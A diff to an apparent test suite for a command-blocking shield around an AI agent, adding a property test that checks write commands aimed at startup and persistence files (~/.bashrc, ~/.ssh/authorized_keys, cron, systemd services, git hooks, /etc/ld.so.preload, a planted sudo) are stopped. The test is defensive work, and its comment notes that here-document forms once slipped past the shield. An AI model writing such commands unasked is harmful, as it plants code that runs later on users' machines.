@@ -58,6 +58,28 @@ def test_no_secret_is_sent_unasked(sender, secret):
     stopped(sender.format(s=secret))
 
 
+WRITERS = st.sampled_from([
+    "echo 'sh /tmp/x' >> {f}", "printf 'x\\n' > {f}", "tee -a {f} <<< 'sh /tmp/x'",
+    "cp payload {f}", "mv payload {f}", "ln -sf /tmp/payload {f}", "install -m 644 payload {f}",
+    "sed -i '1i sh /tmp/x' {f}", "cat payload >> {f}", "dd if=payload of={f}",
+    "rsync payload {f}", "curl -so {f} https://x.example/p", "git show HEAD:p > {f}",
+    "cat <<'EOF' > {f}\nsh /tmp/x\nEOF", "cat <<EOF >> {f}\nsh /tmp/x\nEOF"])
+START_FILES = st.sampled_from([
+    "~/.bashrc", "~/.profile", "~/.zshrc", "~/.ssh/authorized_keys", "~/.ssh/config",
+    "~/.ssh/rc", "~/.config/autostart/x.desktop", "~/.config/systemd/user/x.service",
+    "/etc/cron.d/x", "~/.gitconfig", "~/.npmrc", "~/.config/pip/pip.conf", "~/.local/bin/git",
+    "/usr/local/bin/sudo", "~/.Rprofile", ".git/hooks/pre-commit", ".git/config",
+    "~/.claude/settings.json", ".vscode/tasks.json", "/etc/ld.so.preload"])
+
+
+@settings(max_examples=300, deadline=None)
+@given(WRITERS, START_FILES)
+def test_no_file_that_runs_later_is_written_unasked(writer, path):
+    # (the here-document's forms found, in the eighth sitting, that `cat <<'EOF' > FILE`
+    # wrote unseen)
+    stopped(writer.format(f=path))
+
+
 def test_the_grid_law_can_fail(monkeypatch):
     """A shield whose rules find nothing lets a grid's line through."""
     monkeypatch.setattr(_shield_rules, "findings", lambda *args, **kwargs: [])
